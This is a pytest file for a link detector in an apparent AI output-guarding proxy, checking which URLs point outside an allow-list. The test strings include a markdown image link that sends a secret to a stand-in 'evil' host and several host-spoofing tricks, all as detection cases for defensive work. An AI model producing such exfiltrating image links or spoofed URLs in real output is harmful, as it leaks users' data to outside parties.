"""Tables of the link detector."""

from __future__ import annotations

import pytest

from guardproxy.core.conversation import Scope, Segment, Stage
from guardproxy.core.hazards import selectable
from guardproxy.detectors.links import ForeignHost

LINKS = ForeignHost(["docs.example", "*.corp.example"])


def found(text: str) -> list[str]:
    findings = LINKS.look(Segment(text, Stage.OUTPUT, Scope.MODEL))
    return [text[f.span.start : f.span.end] for f in findings]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](http://evil/?q=SECRET)", ["http://evil/?q=SECRET"]),
        ("[a](https://docs.example/page) [b](https://evil.example)", ["https://evil.example"]),
        ("<img src='//evil.example/x.png'>", ["//evil.example/x.png"]),
        ("<a href=//evil.example>", ["//evil.example"]),
        ("[ref]: //evil.example/a", ["//evil.example/a"]),
        ("<https://evil.example>", ["https://evil.example"]),
        ("see HTTPS://EVIL.EXAMPLE/a.", ["HTTPS://EVIL.EXAMPLE/a"]),
        ("see www.evil.example, please", ["www.evil.example"]),
        ("https://docs.example@evil.example/", ["https://docs.example@evil.example/"]),
        ("https://docs.example.evil.example/", ["https://docs.example.evil.example/"]),
        ("http:\\\\evil.example\\docs.example", ["http:\\\\evil.example\\docs.example"]),
        ("https://evil.example#@docs.example/", ["https://evil.example#@docs.example/"]),
        ("https://corp.example/", ["https://corp.example/"]),  # the star is for names below it
        ("http://203.0.113.7/x", ["http://203.0.113.7/x"]),
        ("https://例え.example/", ["https://"]),
        ("https://docs.example谢谢", ["https://docs.example"]),
        ("https://docs.example。谢谢", ["https://docs.example"]),  # a host may go on after that stop
        ("https://docs.example/。谢谢", []),
        ("https://docs.example。 谢谢", []),
        ("见https://evil.example/页。谢谢", ["https://evil.example/"]),
        ("https://docs.example。evil/", ["https://docs.example。evil/"]),
        ("https://docs。example.evil/", ["https://docs。example.evil/"]),
        ("background: url(//evil.example/b.png)", ["//evil.example/b.png"]),
        ("https://docs.example/a?b=c and HTTPS://DOCS.EXAMPLE:443/", []),
        ("https://a.corp.example/ https://a.b.corp.example./", []),
        ("https://docs%2Eexample/", []),
        ("a relative [link](/page) and [one](page.html)", []),
        ("x = 7 // 2  // a comment", []),
        ("C:\\\\folder and \\\\share", []),
        ("https:// is a scheme", []),
        ("mailto:ada@docs.example", []),
    ],
)
def test_links(text, expected):
    assert found(text) == expected


def test_no_hazard_rule_hears_it():
    (hazard,) = LINKS.info.hazards
    assert not selectable(hazard)


def test_everything_is_foreign_to_an_empty_list():
    text = "https://docs.example"
    assert len(ForeignHost().look(Segment(text, Stage.OUTPUT, Scope.MODEL))) == 1
